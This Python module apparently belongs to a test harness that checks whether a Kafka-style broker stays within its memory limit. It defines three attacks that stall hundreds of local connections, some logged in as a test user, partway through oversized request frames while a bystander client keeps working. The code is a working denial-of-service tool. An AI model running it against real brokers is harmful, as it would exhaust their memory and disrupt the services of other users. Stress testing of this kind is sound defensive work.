"""Attacks that fill a limit which clients share, from one connection, many connections or many addresses,
while the bystander produces 300 kB, commits offsets and fetches.
"""

from __future__ import annotations

import contextlib
import selectors
import socket
import struct
import time
from collections.abc import Callable
from typing import Final

from attack.attacks import Attack, Target
from brokerlab.raw_client import frame, request_header

ATTACK_S: Final = 20.0
USER, PASSWORD = "mallory", "secret"
SASL_HANDSHAKE, SASL_AUTHENTICATE = 17, 36
PLAIN_MODULE: Final = "org.apache.kafka.common.security.plain.PlainLoginModule"
CHART_LIMIT_MB: Final = 2_048
"""The memory of a broker in the chart (`broker.resources.limits.memory` in charts/tidelog/values.yaml)."""
MAX_CONNECTIONS: Final = 600


def settings_with_login(port: int, sasl_address: str) -> dict[str, str]:
    """Returns the settings of a broker with a listener of its own for brokers, one for strangers and one for
    users, of which there is one.
    """
    return {
        "listeners": f"OPEN://127.0.0.1:{port},CLIENTS://{sasl_address},BROKERS://127.0.0.1:0",
        "listener.security.protocol.map": "OPEN:PLAINTEXT,CLIENTS:SASL_PLAINTEXT,BROKERS:PLAINTEXT",
        "inter.broker.listener.name": "BROKERS",
        "listener.name.clients.sasl.enabled.mechanisms": "PLAIN",
        "listener.name.clients.plain.sasl.jaas.config": (
            f'{PLAIN_MODULE} required user_{USER}="{PASSWORD}";'
        ),
    }


def connect(address: tuple[str, int], source: str) -> socket.socket:
    connection = socket.create_connection(address, 5, source_address=(source, 0))
    connection.settimeout(5)
    return connection


def log_in(connection: socket.socket) -> None:
    """Logs in as USER."""
    token = f"\0{USER}\0{PASSWORD}".encode()
    for key, version, body in (
        (SASL_HANDSHAKE, 1, struct.pack(">h", 5) + b"PLAIN"),
        (SASL_AUTHENTICATE, 0, struct.pack(">i", len(token)) + token),
    ):
        connection.sendall(frame(request_header(key, version, 1, False) + body))
        (size,) = struct.unpack(">i", connection.recv(4, socket.MSG_WAITALL))
        connection.recv(size, socket.MSG_WAITALL)


def _addresses(count: int) -> list[str]:
    return [f"127.0.{1 + number // 250}.{1 + number % 250}" for number in range(count)]


def hold_frames(
    target: Target,
    count: int,
    frame_bytes: int,
    sent_bytes: int,
    bytes_per_second: float = float("inf"),
    addresses: int = 1,
    *,
    logs_in: bool = False,
) -> str:
    """Holds frames that never end over many connections, and opens those again that the broker closes."""
    count, sources = target.count(count) if count > 10 else count, _addresses(addresses)
    where = target.sasl_address if logs_in else target.broker.bootstrap
    host, port = where.rsplit(":", 1)
    until = time.monotonic() + max(ATTACK_S * target.scale, 3)
    began, sent, opened, closed = time.monotonic(), 0, 0, 0
    chunk = bytes(64 * 1024)
    with contextlib.ExitStack() as stack, selectors.DefaultSelector() as selector:
        left: dict[socket.socket, int] = {}
        while time.monotonic() < until:
            while len(left) < count:
                connection = stack.enter_context(connect((host, int(port)), sources[opened % len(sources)]))
                opened += 1
                try:
                    if logs_in:
                        log_in(connection)
                    connection.sendall(struct.pack(">i", frame_bytes))
                except OSError:
                    connection.close()
                    break
                connection.setblocking(False)
                left[connection] = sent_bytes
                selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)
            for key, events in selector.select(0.05):
                connection = key.fileobj  # type: ignore[assignment]
                try:
                    if events & selectors.EVENT_READ and not connection.recv(1):
                        raise ConnectionResetError
                    may_send = sent <= bytes_per_second * (time.monotonic() - began)
                    if events & selectors.EVENT_WRITE and may_send:
                        size = connection.send(chunk[: min(len(chunk), left[connection])])
                        sent += size
                        left[connection] -= size
                        if not left[connection]:
                            selector.modify(connection, selectors.EVENT_READ)
                except OSError:
                    closed += 1
                    selector.unregister(connection)
                    connection.close()
                    del left[connection]
            time.sleep(0.005)
    return f"{sent / 1e6:,.0f} MB sent over {count} connections; {closed:,} closed"


def _holding(
    name: str, title: str, run: Callable[[Target], str], bound_mb: float = CHART_LIMIT_MB - 256
) -> Attack:
    return Attack(name, title, run, bound_mb=bound_mb, fills=True)


FILLING_ATTACKS: Final = (
    _holding(
        "memory-3",
        "3 connections that send 99 of 100 MB",
        lambda target: hold_frames(target, 3, 100_000_000, 99_000_000),
    ),
    _holding(
        "memory-600",
        "600 connections without a login that stall in requests of 500 kB, at 32 MB/s",
        lambda target: hold_frames(target, MAX_CONNECTIONS, 500_000, 499_000, 32e6),
    ),
    _holding(
        "memory-user",
        "a user who stalls in 600 requests of 2 MB from 200 addresses",
        lambda target: hold_frames(
            target, MAX_CONNECTIONS, 2_000_000, 1_900_000, addresses=200, logs_in=True
        ),
    ),
)
